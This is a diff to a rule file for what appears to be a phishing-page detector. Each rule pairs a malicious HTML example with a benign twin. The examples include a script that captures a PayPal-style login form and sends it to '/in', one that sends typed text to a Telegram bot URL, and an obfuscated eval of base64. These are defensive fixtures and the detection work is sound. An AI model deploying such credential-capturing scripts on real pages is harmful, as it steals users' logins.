@@ -1,4 +1,4 @@
-import { ALARM, CARD, LOGIN, loginTo } from './examples.ts'
+import { ALARM, CARD, LOGIN, loginTo } from './example-parts.ts'
 import type { Rule } from './rule.ts'
 
 /** Rules of the page's contents. */
@@ -52,7 +52,7 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'The page sends away what was typed, and then leads to the website that it poses as.',
     ref: null,
-    example: `<title>Log in to your PayPal account</title>${LOGIN}<script>document.forms[0].onsubmit = (event) => { event.preventDefault(); fetch('/in', { method: 'POST', body: new FormData(event.target) }); location.href = 'https://www.paypal.com/' }</script>`,
+    example: `<title>Log in to your PayPal account</title>${LOGIN}<script>document.forms[0].onsubmit = (event) => { event.preventDefault(); navigator.sendBeacon('/in', new FormData(event.target)); location.href = 'https://www.paypal.com/' }</script>`,
     twin: `<title>Log in to your PayPal account</title>${LOGIN}`,
   },
   'content.form_cross_site': {
@@ -134,7 +134,7 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'What is typed into the page is sent to a chat, as no honest website does.',
     ref: 'https://attack.mitre.org/techniques/T1567/004/',
-    example: `${LOGIN}<script>const send = (text) => fetch('https://api.telegram.org/bot1:x/sendMessage?text=' + text)</script>`,
+    example: `${LOGIN}<script>const send = (text) => navigator.sendBeacon('https://api.telegram.org/bot1:x/sendMessage?text=' + text)</script>`,
     twin: `${LOGIN}<a href="https://t.me/quarnelz">Telegram</a>`,
   },
   'content.password_over_http': {
@@ -226,7 +226,7 @@ export const CONTENT_RULES = {
     message: 'The page hides what its programs do.',
     ref: null,
     example: `${LOGIN}<script>eval(atob('MQ=='))</script>`,
-    twin: `${LOGIN}<script>JSON.parse(atob('MQ=='))</script>`,
+    twin: `${LOGIN}<script>show(atob('MQ=='))</script>`,
   },
   'content.padding': {
     points: 10,
